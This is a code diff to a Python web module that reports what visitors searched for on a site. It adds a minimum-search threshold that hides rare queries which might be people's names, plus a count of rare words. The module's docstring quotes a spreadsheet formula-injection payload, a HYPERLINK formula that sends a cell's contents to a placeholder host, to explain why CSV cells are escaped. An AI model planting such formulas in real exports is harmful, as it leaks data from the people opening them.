@@ -7,6 +7,18 @@ the ``X-Insights-Token`` header, ``Authorization: Bearer``, or the form field ``
 own form posts it); never in a cookie or the URL. A wrong or missing token gets 401 and the form, and repeated
 wrong tokens 429 for a while (``tokens.py``).
 
+A query a visitor typed once may be a name: "anna svensson" searched for once is one person looking for another,
+and the log keeps it under the day it was typed. So the page, the CSV and the command show a query only when it was
+searched at least ``INSIGHTS_MIN_SEARCHES`` times (k, ``MIN_SEARCHES`` unless set) within the log's retention, or
+when it is nothing but the labels of what the log masked ("[telefon]": no one's text). What is held back is counted,
+never listed (queries and searches), and so are the sections opened from such a query and the feeds that follow one.
+The log keeps no identifier, so it cannot count visitors: k counts searches, and one visitor who searches the same
+text k times shows it; k is a floor against the single search, not a guarantee. The editors' to-do list, the queries
+with no hits, is where names land (the site has no page about a person), and where editors need the long tail most:
+its rare queries are shown as their words instead, each word that k searches without hits held, in whatever rare
+query ("laddstolpe" from "laddstolpe kalmar", "laddstolpar" and "laddstolpe stöd" seen once each), the words a
+synonym fixes; a name searched once is in none of them.
+
 The CSV holds what visitors typed, and a spreadsheet reads a cell that starts with "=", "+", "-",
 "@", a tab or a carriage return as a formula: a visitor who searches for
 ``=HYPERLINK("http://x/?"&A1,"k")`` would put a live link in the editor's sheet. Every text cell
@@ -20,8 +32,9 @@ from __future__ import annotations
 import csv
 import datetime
 import io
+import re
 import sqlite3
-from collections import defaultdict
+from collections import Counter, defaultdict
 from dataclasses import dataclass
 from functools import cache
 from pathlib import Path
@@ -30,13 +43,15 @@ import click
 from flask import Blueprint, Response, abort, current_app, render_template
 
 from indexer import datafiles
+from indexer.analysis import stop_words
 
 from . import tokens
-from .querylog import log_path
+from .querylog import LABELS, log_path
 
 bp = Blueprint("insights", __name__)
 
 TOP = 20  # rows per table
+MIN_SEARCHES = 3  # k: a query is shown once it was searched this often (``INSIGHTS_MIN_SEARCHES``)
 CSV_COLUMNS = (
     "fråga",
     "sökningar",
@@ -54,7 +69,10 @@ FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\0", "\uff1d", "\uff0b"
 
 #: The log's own counts (``querylog``: entries written and dropped, queries with no word to search for, searches
 #: that ran out of time: what they would have found is not known, so they are never queries with no hits).
-COUNTS = {"written": 0, "dropped": 0, "unsearchable": 0, "timed_out": 0}
+COUNTS = {"written": 0, "dropped": 0, "unsearchable": 0, "timed_out": 0, "over_limit": 0}
+
+#: A word of a query: letters and digits (with inner hyphens, "e-tjänster"); a masked label is one word.
+WORD = re.compile(r"\[[a-z-]+\]|\w+(?:-\w+)*")
 
 QUERY_TOTALS = """
 SELECT query, SUM(searches) AS searches, SUM(filtered) AS filtered, SUM(zero_hits) AS zero_hits,
@@ -65,7 +83,10 @@ SELECT query, SUM(searches) AS searches, SUM(filtered) AS filtered, SUM(zero_hit
 FROM searches AS s GROUP BY query
 """
 FEED_TOTALS = """
-SELECT query, SUM(polls) AS polls, COUNT(*) AS days FROM feeds GROUP BY query ORDER BY polls DESC, query LIMIT ?
+SELECT query, SUM(polls) AS polls, COUNT(*) AS days FROM feeds GROUP BY query ORDER BY polls DESC, query
+"""
+OPENED_TOTALS = """
+SELECT query, section, SUM(opened) AS opened FROM opened GROUP BY query, section ORDER BY opened DESC, query, section
 """
 
 
@@ -73,41 +94,48 @@ class LogUnreadable(Exception):
     """The query log's database cannot be read (corrupt, or not a database)."""
 
 
-def report(path: Path, top: int = TOP) -> dict:
-    """Everything the editors see: most frequent queries, zero hits, rescued queries, weeks,
-    synonyms, opened sections, and the log's own counts. An absent log is an empty report."""
+def report(path: Path, top: int = TOP, min_searches: int = MIN_SEARCHES) -> dict:
+    """Everything the editors see: most frequent queries, zero hits, rescued queries, weeks, synonyms, opened
+    sections, and the log's own counts; a query only once it was searched ``min_searches`` times (k), the rest
+    counted in ``held_back``. An absent log is an empty report."""
     empty = {
         "queries": [],
         "frequent": [],
         "zero_hits": [],
+        "rare_words": [],
         "rescued": [],
         "weeks": [],
         "synonyms": [],
         "opened": [],
         "feeds": [],
         "counts": dict(COUNTS),
+        "held_back": {"queries": 0, "searches": 0, "min_searches": min_searches},
     }
     if not path.exists():
         return empty
     try:
         connection = sqlite3.connect(f"file:{path}?mode=ro", uri=True, timeout=5)
         try:
-            return _read(connection, top)
+            return _read(connection, top, min_searches)
         finally:
             connection.close()
     except sqlite3.Error as error:
         raise LogUnreadable(f"the query log {path} cannot be read: {error}") from None
 
 
-def _read(connection: sqlite3.Connection, top: int) -> dict:
+def _read(connection: sqlite3.Connection, top: int, min_searches: int) -> dict:
     _read_as_current(connection)
     connection.row_factory = sqlite3.Row
-    queries = [dict(row) for row in connection.execute(QUERY_TOTALS + " ORDER BY searches DESC, query")]
+    every = [dict(row) for row in connection.execute(QUERY_TOTALS + " ORDER BY searches DESC, query")]
+    queries = [q for q in every if q["searches"] >= min_searches or only_labels(q["query"])]
+    shown = {q["query"] for q in queries}
+    held_back = [q for q in every if q["query"] not in shown]
     days = connection.execute("SELECT day, SUM(searches), SUM(zero_hits) FROM searches GROUP BY day").fetchall()
     return {
         "queries": queries,
         "frequent": queries[:top],
         "zero_hits": sorted((q for q in queries if q["zero_hits"]), key=lambda q: -q["zero_hits"])[:top],
+        "rare_words": rare_words(held_back, min_searches)[:top],
         "rescued": [q for q in queries if q["partial"] or q["typo"]][:top],
         "weeks": _weeks(days),
         "synonyms": [
@@ -116,18 +144,43 @@ def _read(connection: sqlite3.Connection, top: int) -> dict:
                 "SELECT word, SUM(fired) AS fired FROM synonyms GROUP BY word ORDER BY fired DESC, word LIMIT ?", (top,)
             )
         ],
-        "opened": [
-            dict(row)
-            for row in connection.execute(
-                # a section page opened with a ?q= nobody searched is no open "from a search" (nor in the CSV)
-                "SELECT query, section, SUM(opened) AS opened FROM opened WHERE query IN (SELECT query FROM searches)"
-                " GROUP BY query, section ORDER BY opened DESC, query, section LIMIT ?",
-                (top,),
-            )
-        ],
-        "feeds": [dict(row) for row in connection.execute(FEED_TOTALS, (top,))],
+        # a section page opened with a ?q= nobody searched is no open "from a search" (nor in the CSV)
+        "opened": [dict(row) for row in connection.execute(OPENED_TOTALS) if row["query"] in shown][:top],
+        "feeds": [dict(row) for row in connection.execute(FEED_TOTALS) if row["query"] in shown][:top],
         "counts": {**COUNTS, **dict(connection.execute("SELECT name, value FROM counts"))},
+        "held_back": {
+            "queries": len(held_back),
+            "searches": sum(q["searches"] for q in held_back),
+            "min_searches": min_searches,
+        },
     }
+
+
+@cache
+def _labels() -> frozenset[str]:
+    return frozenset(f"[{label}]" for label in LABELS)
+
+
+def only_labels(query: str) -> bool:
+    """Whether a logged query is nothing but the labels of what was masked ("[telefon] [e-post]")."""
+    return set(query.split()) <= _labels()
+
+
+def rare_words(held_back: list[dict], min_searches: int) -> list[dict]:
+    """The words of the queries held back that ``min_searches`` searches without hits held between them, most
+    first: each with those searches and the number of queries (a stop word, and a word of one letter, are none)."""
+    searches, queries = Counter(), Counter()
+    for q in held_back:
+        if q["zero_hits"]:
+            for word in set(WORD.findall(q["query"])) - stop_words():
+                if len(word) > 1:
+                    searches[word] += q["zero_hits"]
+                    queries[word] += 1
+    common = [word for word, n in searches.items() if n >= min_searches]
+    return [
+        {"word": word, "zero_hits": searches[word], "queries": queries[word]}
+        for word in sorted(common, key=lambda word: (-searches[word], word))
+    ]
 
 
 def _read_as_current(connection: sqlite3.Connection) -> None:
@@ -230,7 +283,7 @@ def _refused(wait: int):
 
 def _current_report() -> dict:
     try:
-        return report(_path())
+        return report(_path(), min_searches=current_app.config["INSIGHTS_MIN_SEARCHES"])
     except LogUnreadable as error:
         current_app.logger.error("%s", error)
         abort(503)
@@ -281,8 +334,13 @@ def csv_export():
     help="The served index; the log is beside it (default: the app's INDEX_DIR).",
 )
 @click.option("--top", default=TOP, show_default=True, type=click.IntRange(1, 1000), help="Rows per table.")
-@click.option("--csv", "as_csv", is_flag=True, help="Print every query with its totals as CSV instead.")
-def main(index_dir: Path | None, top: int, as_csv: bool):
+@click.option("--csv", "as_csv", is_flag=True, help="Print every query shown with its totals as CSV instead.")
+@click.option(
+    "--min-searches",
+    type=click.IntRange(1),
+    help="Show a query once it was searched this often (default: the app's INSIGHTS_MIN_SEARCHES).",
+)
+def main(index_dir: Path | None, top: int, as_csv: bool, min_searches: int | None):
     """What visitors searched for: frequent queries, zero hits, rescued queries, weeks, synonyms.
 
     Example: python -m webapp insights --top 10
@@ -298,7 +356,7 @@ def main(index_dir: Path | None, top: int, as_csv: bool):
     if not path.exists():  # an empty report would read as "nobody searched"
         raise click.ClickException(f"no query log at {path.absolute()}: is the index the one the server serves?")
     try:
-        found = report(path, top)
+        found = report(path, top, min_searches or config["INSIGHTS_MIN_SEARCHES"])
     except LogUnreadable as error:
         raise click.ClickException(str(error)) from None
     if as_csv:
@@ -308,6 +366,12 @@ def main(index_dir: Path | None, top: int, as_csv: bool):
     click.echo(f"Query log: {path} ({counts['written']} entries written, {counts['dropped']} dropped)")
     click.echo(f"{counts['unsearchable']} searches with no word to search for (counted, not listed)")
     click.echo(f"{counts['timed_out']} searches that ran out of time (counted, not listed)")
+    click.echo(f"{counts['over_limit']} searches of new queries past a day's limit (counted, not listed)")
+    held = found["held_back"]
+    click.echo(
+        f"{held['queries']} queries ({held['searches']} searches) searched fewer than {held['min_searches']} times"
+        " (held back: one person's search may name someone)"
+    )
     for table in report_tables():
         _table(table.title, table.labels, table.rows(found))
 
